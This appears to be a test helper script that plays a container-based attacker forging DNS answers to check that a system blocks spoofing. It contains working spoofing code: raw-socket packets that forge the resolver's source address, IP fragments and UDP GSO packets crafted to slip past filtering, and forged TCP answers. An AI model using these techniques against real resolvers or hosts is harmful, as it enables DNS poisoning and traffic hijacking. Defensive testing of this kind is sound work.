"""An attacker in a container forging DNS answers, to name an address as it likes
(tests/kernel/test_dns_forgery.py runs it inside the test's containers).

    python dnsforge.py untrusted NAME ADDR        answer its own query from 127.0.0.1:53
    python dnsforge.py as-resolver RESOLVER NAME ADDR
                                                  bind RESOLVER:53 (free in this namespace) and answer
                                                  its own query there, as the resolver would
    python dnsforge.py raw RESOLVER NAME ADDR     ask RESOLVER, and answer first with a raw socket
                                                  that claims RESOLVER:53 as its source
    python dnsforge.py gso RESOLVER NAME ADDR     as as-resolver, the answer sent as a UDP GSO packet whose
                                                  first segment is query-shaped
    python dnsforge.py frag RESOLVER NAME ADDR    ask RESOLVER, answer with raw IPv4 fragments claiming it: the
                                                  first holding the UDP header alone
    python dnsforge.py tcp-at HOST PORT NAME ADDR send a DNS answer over TCP from port 53 to HOST:PORT
    python dnsforge.py pipeline RESOLVER NAME     over one TCP connection, ask RESOLVER for carrier.test's TXT
                                                  and NAME's A (the resolver's answer to the first carries
                                                  a crafted answer to the second): read all it sends
    python dnsforge.py listen                     (the victim's side of tcp-at: print a port, read one
                                                  connection to the end)

Prints what happened: "received" (the answer reached the asking socket), "refused" (the send
failed with EPERM), "silent" (nothing came back), "sent".
"""

import socket
import struct
import sys

import dns.message
import dns.rrset


def forged(query: dns.message.Message, name: str, addr: str) -> bytes:
    response = dns.message.make_response(query)
    response.answer.append(dns.rrset.from_text(query.question[0].name, 3600, "IN", "A", addr))
    return response.to_wire()


def await_answer(client: socket.socket) -> str:
    client.settimeout(1.0)
    try:
        client.recv(4096)
    except TimeoutError:
        return "silent"
    return "received"


def send(sock: socket.socket, data: bytes, to) -> str:
    try:
        sock.sendto(data, to)
    except PermissionError:
        return "refused"
    return "sent"


def as_resolver(resolver: str, name: str, addr: str) -> str:
    """Both ends in the container: the resolver's address is free here, so it binds it."""
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind((resolver, 53))
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.connect((resolver, 53))
    client.send(dns.message.make_query(name, "A").to_wire())
    wire, peer = server.recvfrom(4096)
    if send(server, forged(dns.message.from_wire(wire), name, addr), peer) == "refused":
        return "refused"
    return await_answer(client)


def raw(resolver: str, name: str, addr: str) -> str:
    """Asks the real resolver; a raw socket answers first, with the resolver's address and
    port as its source and the query's id and question: the answer an off-path forger would
    have to guess, known here."""
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.connect((resolver, 53))
    query = dns.message.make_query(name, "A")
    client.send(query.to_wire())
    local, port = client.getsockname()
    payload = forged(query, name, addr)
    udp = struct.pack("!HHHH", 53, port, 8 + len(payload), 0) + payload  # checksum 0: none (IPv4)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(resolver), socket.inet_aton(local))  # fmt: skip
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    if send(sender, ip + udp, (local, 0)) == "refused":
        return "refused"
    return await_answer(client)


def gso(resolver: str, name: str, addr: str) -> str:
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind((resolver, 53))
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.connect((resolver, 53))
    client.send(dns.message.make_query(name, "A").to_wire())
    wire, peer = server.recvfrom(4096)
    answer = forged(dns.message.from_wire(wire), name, addr)
    decoy = dns.message.make_query("decoy.test", "A").to_wire()
    size = max(len(decoy), len(answer))
    segment = struct.pack("H", size)  # UDP_SEGMENT: the first segment a query, the last the answer
    try:
        server.sendmsg([decoy.ljust(size, b"\0") + answer], [(socket.SOL_UDP, 103, segment)], 0, peer)
    except PermissionError:
        return "refused"
    return await_answer(client)


def frag(resolver: str, name: str, addr: str) -> str:
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.connect((resolver, 53))
    query = dns.message.make_query(name, "A")
    client.send(query.to_wire())
    local, port = client.getsockname()
    payload = forged(query, name, addr)
    udp = struct.pack("!HHHH", 53, port, 8 + len(payload), 0) + payload
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    outcomes = []
    for offset, part, more in ((0, udp[:8], 0x2000), (1, udp[8:], 0)):  # (offset in 8-byte units)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(part), 0x4242, more | offset, 64, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(resolver), socket.inet_aton(local))  # fmt: skip
        outcomes.append(send(sender, ip + part, (local, 0)))
    if "refused" in outcomes:
        return "refused" if set(outcomes) == {"refused"} else "partly refused"
    return await_answer(client)


def untrusted(name: str, addr: str) -> str:
    """Its own query answered from 127.0.0.1:53, a resolver the node does not trust."""
    return as_resolver("127.0.0.1", name, addr)


def tcp_at(host: str, port: int, name: str, addr: str) -> str:
    answer = forged(dns.message.make_query(name, "A"), name, addr)
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("127.0.0.1", 53))
    sock.connect((host, port))
    sock.sendall(struct.pack("!H", len(answer)) + answer)
    sock.close()
    return "sent"


def pipeline(resolver: str, name: str) -> str:
    sock = socket.create_connection((resolver, 53), timeout=5)
    for query in (dns.message.make_query("carrier.test", "TXT"), dns.message.make_query(name, "A")):
        wire = query.to_wire()
        sock.sendall(struct.pack("!H", len(wire)) + wire)
    while sock.recv(4096):
        pass
    return "received"


def listen() -> str:
    server = socket.create_server(("127.0.0.1", 0))
    print(server.getsockname()[1], flush=True)
    conn, _ = server.accept()
    with conn:
        while conn.recv(4096):
            pass
    return "received"


if __name__ == "__main__":
    mode, args = sys.argv[1], sys.argv[2:]
    if mode == "tcp-at":
        args[1] = int(args[1])
    print({"untrusted": untrusted, "as-resolver": as_resolver, "raw": raw, "gso": gso, "frag": frag, "tcp-at": tcp_at,
           "pipeline": pipeline, "listen": listen}[mode](
        *args
    ))  # fmt: skip
